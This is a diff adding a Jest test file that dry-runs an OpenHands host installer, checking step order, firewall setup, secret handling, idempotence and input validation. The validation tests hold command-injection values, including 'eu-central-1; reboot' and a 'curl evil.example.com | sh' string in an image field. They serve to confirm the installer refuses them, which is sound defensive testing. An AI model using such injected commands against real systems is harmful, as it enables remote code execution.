@@ -1,0 +1,287 @@
+/**
+ * The host installer (dist/host-bundle/install.sh) in dry runs: a temporary root, stub commands that
+ * record their argv (support/fake-host.sh), and a fake AWS world shared between hosts. Shows the steps
+ * and their order, the files and their modes, that a second run changes nothing, that a replacement
+ * host reaches the same state from the same parameters and secrets, and how bad input is refused.
+ */
+import { spawnSync } from "node:child_process";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { parse } from "yaml";
+import { AGENT_SERVER_DIGEST, DryRunHost, EDGE_PARAMETER, mutatingCalls, sampleHostConfig, secretArn, type RunResult } from "./support/dry-run";
+
+const SECRET_NAMES = ["identity-signing-key", "openhands-jwt-secret", "llm-gateway-key", "db-password-key"];
+const BASE64URL_32_BYTES = /^[A-Za-z0-9_-]{43}$/;
+
+function firstIndex(calls: readonly string[], pattern: RegExp): number {
+  const index = calls.findIndex((c) => pattern.test(c));
+  if (index < 0) throw new Error(`no call matches ${pattern}:\n${calls.join("\n")}`);
+  return index;
+}
+
+describe("install.sh on a bare host (dry run)", () => {
+  const host = new DryRunHost();
+  let first: RunResult;
+
+  beforeAll(() => {
+    first = host.run();
+  }, 120_000);
+  afterAll(() => host.cleanup());
+
+  it("GIVEN a bare host WHEN install.sh runs THEN it succeeds and takes the steps in their order", () => {
+    expect(first.stderr).toContain("done:");
+    expect(first.code).toBe(0);
+    const order = [
+      /^dnf install -y -q docker amazon-efs-utils jq amazon-cloudwatch-agent$/,
+      /^curl .* https:\/\/github.com\/docker\/compose\/releases\/download\/v2.33.0\/docker-compose-linux-aarch64$/,
+      /^aws ssm get-parameter --region eu-central-1 --name \/oh\/test\/host\/config /,
+      /^mkfs.xfs -q -L oh-docker \/dev\/xvdb$/,
+      /^mount \/var\/lib\/docker$/,
+      /^mount \/mnt\/openhands-efs$/,
+      /^aws secretsmanager put-secret-value /,
+      /^aws ssm put-parameter --region us-east-1 --name \/oh\/test\/edge\/secrets --type SecureString --overwrite /,
+      /^iptables-restore -w --noflush$/,
+      /^systemctl enable oh-firewall.service$/,
+      /^systemctl start docker.service$/,
+      /^docker pull -q ghcr.io\/openhands\/agent-server@sha256:c{64}$/,
+      /^docker run --rm --network none .* node \/opt\/openhands-team\/runtime-proxy\/render.js /,
+      /^systemctl start openhands-team.service$/,
+      /^curl -fsS --max-time 3 http:\/\/127.0.0.1:8080\/_oh\/health$/,
+    ];
+    const indexes = order.map((re) => firstIndex(first.calls, re));
+    expect(indexes).toEqual([...indexes].sort((a, b) => a - b));
+  });
+
+  it("THEN the firewall is in place before Docker ever starts, and at every boot before docker.service", () => {
+    expect(firstIndex(first.calls, /^iptables -w -I DOCKER-USER 1 -j OH-FORWARD$/)).toBeLessThan(firstIndex(first.calls, /^systemctl start docker.service$/));
+    const unit = host.file("etc/systemd/system/oh-firewall.service");
+    expect(unit).toMatch(/^Before=docker.service/m);
+    expect(unit).toMatch(/^RequiredBy=docker.service$/m);
+  });
+
+  it("THEN every pinned image is pulled, the digest-pinned agent-server by digest and then tagged once with its tag", () => {
+    const images = (sampleHostConfig() as { images: Record<string, string> }).images;
+    const pulls = first.calls.filter((c) => /^docker (pull|tag)/.test(c));
+    expect(pulls).toEqual([
+      `docker pull -q ${images.app}`,
+      `docker pull -q ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}`,
+      `docker tag ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST} ghcr.io/openhands/agent-server:1.19.1-python`,
+      `docker pull -q ${images.openresty}`,
+      `docker pull -q ${images.llmGateway}`,
+      `docker pull -q ${images.node}`,
+    ]);
+    expect(first.calls.filter((c) => c.startsWith("docker image rm"))).toEqual([]);
+    // the spawner gets the tag: OpenHands names sandbox images by their tag
+    expect(JSON.parse(host.file("run/openhands-team/spawner.json")).images.agentServer).toBe("ghcr.io/openhands/agent-server:1.19.1-python");
+  });
+
+  it("THEN /etc/fstab mounts EFS with TLS and IAM and the Docker volume by its label, each once", () => {
+    const fstab = host.file("etc/fstab");
+    expect(fstab).toContain("fs-0123456789abcdef0:/ /mnt/openhands-efs efs _netdev,noresvport,tls,iam 0 0\n");
+    expect(fstab).toContain("LABEL=oh-docker /var/lib/docker xfs defaults,noatime,nofail 0 2\n");
+    expect(fstab.startsWith("UUID=1111-2222 / xfs")).toBe(true);
+    expect(fstab.split("\n").filter(Boolean)).toHaveLength(3);
+  });
+
+  it("THEN each secret was generated once, with a fixed request token, and lives only in 0600 files on tmpfs", () => {
+    const puts = first.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"));
+    expect(puts).toHaveLength(4);
+    for (const name of SECRET_NAMES) {
+      expect(puts.some((c) => c.includes(`--secret-id ${secretArn(name)} --client-request-token openhands-team-first-boot-${name} --secret-string file://`))).toBe(true);
+      const value = host.secret(secretArn(name))!;
+      expect(value).toMatch(BASE64URL_32_BYTES);
+      expect(host.file(`run/openhands-team/secrets/${name}`)).toBe(value);
+      expect(host.mode(`run/openhands-team/secrets/${name}`)).toBe("0600");
+    }
+    expect(host.mode("run/openhands-team/secrets")).toBe("0700");
+    for (const file of ["run/openhands-team/llm-gateway.env", "run/openhands-team/spawner.json", "etc/openhands-team/compose/.env", "run/openhands-team/secrets/db-admin-password"]) {
+      expect([file, host.mode(file)]).toEqual([file, "0600"]);
+    }
+    // no secret value on the command line of any call, nor in any file outside /run
+    const values = [...SECRET_NAMES.map((n) => host.secret(secretArn(n))!), "master-password"];
+    for (const value of values) expect(first.calls.filter((c) => c.includes(value))).toEqual([]);
+    const onDisk = spawnSync("grep", ["-rlF", ...values.flatMap((v) => ["-e", v]), join(host.root, "etc"), join(host.root, "opt"), join(host.root, "var")], { encoding: "utf8" });
+    expect(onDisk.stdout).toBe("");
+  });
+
+  it("THEN the edge secrets parameter holds the identity-signing key and fresh ticket and nonce keys", () => {
+    const edge = JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, string>;
+    expect(Object.keys(edge).sort()).toEqual(["identitySigningKey", "nonceKey", "ticketKey"]);
+    expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
+    expect(edge.ticketKey).toMatch(BASE64URL_32_BYTES);
+    expect(edge.nonceKey).toMatch(BASE64URL_32_BYTES);
+    expect(new Set(Object.values(edge)).size).toBe(3);
+  });
+
+  it("THEN Docker keeps the userland proxy on and ships container logs to CloudWatch", () => {
+    const daemon = JSON.parse(host.file("etc/docker/daemon.json"));
+    expect(daemon).toMatchObject({ "userland-proxy": true, "icc": false, "live-restore": true, "log-driver": "awslogs" });
+    expect(daemon["log-opts"]).toMatchObject({ "awslogs-region": "eu-central-1", "awslogs-group": "/oh/test/apps", "awslogs-create-group": "false" });
+  });
+
+  it("THEN the LLM gateway routes every configured model to Bedrock with the instance role and a sk- master key", () => {
+    const litellm = parse(host.file("etc/openhands-team/litellm.yaml"));
+    expect(litellm.model_list).toEqual(
+      (sampleHostConfig() as { bedrock: { models: string[] } }).bedrock.models.map((m) => ({ model_name: m, litellm_params: { model: `bedrock/${m}`, aws_region_name: "eu-central-1" } })),
+    );
+    expect(litellm.general_settings.master_key).toBe("os.environ/LITELLM_MASTER_KEY");
+    const key = `sk-${host.secret(secretArn("llm-gateway-key"))}`;
+    expect(host.file("run/openhands-team/llm-gateway.env")).toBe(`LITELLM_MASTER_KEY=${key}\n`);
+    expect(host.file("run/openhands-team/secrets/llm-gateway-api-key")).toBe(key);
+  });
+
+  it("THEN the runtime proxy's own renderer accepted the settings and wrote nginx.conf", () => {
+    const conf = host.file("etc/openhands-team/proxy/nginx.conf");
+    expect(conf).toMatch(/listen 0\.0\.0\.0:8080/);
+    expect(conf).toContain("/opt/openhands-team/runtime-proxy/lua");
+    expect(conf).toContain("/run/openhands-team/secrets/identity-signing-key");
+  });
+
+  it("THEN the spawner's own configuration schema accepts the configuration", () => {
+    // contract check against packages/spawner/src/config.ts (secret paths pointed into the dry run's root)
+    // eslint-disable-next-line @typescript-eslint/no-require-imports
+    const { parseConfig } = require("@openhands-team/spawner/src/config") as { parseConfig: (input: unknown) => Record<string, unknown> };
+    const text = host.file("run/openhands-team/spawner.json").replaceAll('"/run/openhands-team/', `"${host.root}/run/openhands-team/`);
+    const config = parseConfig(JSON.parse(text)) as { database: { adminUser: string; adminPassword: string }; secrets: Record<string, string>; llm: { model: string } };
+    expect(config.database.adminUser).toBe("ohadmin");
+    expect(config.database.adminPassword).toBe("master-password");
+    expect(config.secrets.llmGatewayKey).toBe(`sk-${host.secret(secretArn("llm-gateway-key"))}`);
+    expect(config.llm.model).toBe("eu.anthropic.claude-sonnet-4-5-20250929-v1:0");
+  });
+
+  it("THEN the compose project it rendered validates with docker-compose config, and a broken one does not", () => {
+    const compose = join(host.root, "etc/openhands-team/compose/compose.yaml");
+    const env = join(host.root, "etc/openhands-team/compose/.env");
+    const validate = (file: string) =>
+      spawnSync("docker-compose", ["-f", file, "--env-file", env, "config", "-q"], { encoding: "utf8", env: { ...process.env, OH_RUN_DIR: join(host.root, "run/openhands-team") } });
+    const good = validate(compose);
+    expect(good.stderr).toBe("");
+    expect(good.status).toBe(0);
+    const dir = mkdtempSync(join(tmpdir(), "oh-compose-"));
+    try {
+      const broken = join(dir, "compose.yaml");
+      writeFileSync(broken, readFileSync(compose, "utf8").replace("    restart: always\n", "    restart: always\n    bogus_key: 1\n"));
+      expect(validate(broken).status).not.toBe(0);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it("THEN the stack unit needs Docker, the secrets and both mounts, restarts forever, and a watchdog is enabled", () => {
+    const unit = host.file("etc/systemd/system/openhands-team.service");
+    expect(unit).toMatch(/^Requires=docker.service oh-secrets.service$/m);
+    expect(unit).toMatch(/^RequiresMountsFor=\/mnt\/openhands-efs \/var\/lib\/docker$/m);
+    expect(unit).toMatch(/^Restart=always$/m);
+    expect(first.calls).toContain("systemctl enable oh-health.timer");
+    expect(host.mode("opt/openhands-team/host/firewall/oh-firewall.sh")).toBe("0755");
+    expect(host.mode("opt/openhands-team/host/steps/50-secrets.sh")).toBe("0755");
+  });
+
+  it("GIVEN the installed host WHEN install.sh runs again THEN no file changes and no command changes anything", () => {
+    const before = host.snapshot();
+    const second = host.run();
+    expect(second.code).toBe(0);
+    expect(second.stderr).toContain("done: 0 file(s) changed");
+    expect(mutatingCalls(second.calls)).toEqual([]);
+    const after = host.snapshot();
+    after.delete("var/log/openhands-team/install.log");
+    before.delete("var/log/openhands-team/install.log");
+    expect(after).toEqual(before);
+  }, 120_000);
+
+  it("GIVEN a replacement host (same parameters and secrets, new disks, a stale extra tag on the agent-server image) WHEN install.sh runs THEN it reuses every secret and reaches the same files", () => {
+    const replacement = new DryRunHost({ world: host });
+    try {
+      replacement.touchState("images/agent-server");
+      writeFileSync(
+        join(replacement.state, "images/agent-server"),
+        `ghcr.io/openhands/agent-server:1.19.1-python\nghcr.io/openhands/agent-server:latest\ndigest ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}\n`,
+      );
+      const run = replacement.run();
+      expect(run.code).toBe(0);
+      expect(run.calls.filter((c) => /^aws (secretsmanager put-secret-value|ssm put-parameter)/.test(c))).toEqual([]);
+      expect(run.calls).toContain("mkfs.xfs -q -L oh-docker /dev/xvdb");
+      expect(run.calls).toContain("docker image rm ghcr.io/openhands/agent-server:latest");
+      expect(run.calls.filter((c) => c.includes("agent-server") && /^docker (pull|tag)/.test(c))).toEqual([]);
+      const digests = (snapshot: Map<string, string>) =>
+        new Map([...snapshot].filter(([path]) => /^(etc|opt|run)\//.test(path)).map(([path, v]) => [path, v.replace(/ [\d.]+ /, " ")]));
+      expect(digests(replacement.snapshot())).toEqual(digests(host.snapshot()));
+    } finally {
+      replacement.cleanup();
+    }
+  }, 120_000);
+});
+
+describe("install.sh refuses bad input (dry run)", () => {
+  const hosts: DryRunHost[] = [];
+  const newHost = (options?: ConstructorParameters<typeof DryRunHost>[0]) => {
+    const h = new DryRunHost(options);
+    hosts.push(h);
+    return h;
+  };
+  afterAll(() => hosts.forEach((h) => h.cleanup()));
+
+  it.each([
+    ["--region", "eu-central-1; reboot"],
+    ["--host-config-parameter", "/oh/x' --endpoint-url https://evil.example.com '"],
+  ])("GIVEN %s %j (command injection) WHEN install.sh starts THEN it refuses before calling anything", (flag, value) => {
+    const host = newHost();
+    const args = ["--region", "eu-central-1", "--host-config-parameter", "/oh/test/host/config"];
+    args[args.indexOf(flag) + 1] = value;
+    const run = host.run(args);
+    expect(run.code).not.toBe(0);
+    expect(run.stderr).toContain(`${flag}: "${value}" is not`);
+    expect(run.calls).toEqual([]);
+  });
+
+  it("GIVEN a host configuration with a newline in the EFS id and a shell command in an image (config injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
+    const config = sampleHostConfig() as Record<string, any>;
+    config.efsFileSystemId = "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/";
+    config.images.node = "node:20; curl evil.example.com | sh";
+    config.bedrock.models = [];
+    const host = newHost({ hostConfig: config });
+    const run = host.run();
+    expect(run.code).not.toBe(0);
+    expect(run.stderr).toContain('efsFileSystemId: "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/" is not an EFS file system id');
+    expect(run.stderr).toContain('images.node: "node:20; curl evil.example.com | sh" is not an image');
+    expect(run.stderr).toContain("bedrock.models: [] is not a non-empty list of model ids");
+    expect(run.calls.filter((c) => /^(mount|mkfs|aws secretsmanager)/.test(c))).toEqual([]);
+    expect(host.file("etc/fstab")).not.toContain("efs");
+  }, 60_000);
+
+  it("GIVEN Secrets Manager denies access (a real value may exist) WHEN oh-secrets runs at boot THEN it stops and never generates a replacement secret", () => {
+    const host = newHost();
+    host.placeHostConfig();
+    host.touchState("secrets/deny");
+    const run = host.runScript("steps/50-secrets.sh");
+    expect(run.code).not.toBe(0);
+    expect(run.stderr).toContain("AccessDeniedException");
+    expect(run.stderr).toContain("cannot read secret");
+    expect(run.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"))).toEqual([]);
+  });
+
+  it("GIVEN an edge secrets parameter already filled with another identity key WHEN oh-secrets runs at boot THEN it keeps it and warns", () => {
+    const host = newHost();
+    host.placeHostConfig();
+    const edge = JSON.stringify({ identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n" });
+    host.setParameter(EDGE_PARAMETER, edge);
+    const run = host.runScript("steps/50-secrets.sh");
+    expect(run.code).toBe(0);
+    expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
+    expect(host.parameter(EDGE_PARAMETER)).toBe(edge);
+    expect(run.stderr).toContain("WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret");
+    expect(host.mode("run/openhands-team/secrets/identity-signing-key")).toBe("0600");
+  });
+
+  it("GIVEN a compose plugin download that is not the pinned binary (supply-chain tampering) WHEN install.sh runs THEN it stops and installs nothing", () => {
+    const host = newHost();
+    const versions = join(host.bundle, "versions.env");
+    writeFileSync(versions, readFileSync(versions, "utf8").replace(/^COMPOSE_SHA256=.*$/m, `COMPOSE_SHA256=${"0".repeat(64)}`));
+    const run = host.run();
+    expect(run.code).not.toBe(0);
+    expect(run.stderr).toContain("compose plugin checksum mismatch");
+    expect(host.exists("usr/local/lib/docker/cli-plugins/docker-compose")).toBe(false);
+    expect(run.calls.some((c) => c.startsWith("aws "))).toBe(false);
+  }, 60_000);
+});
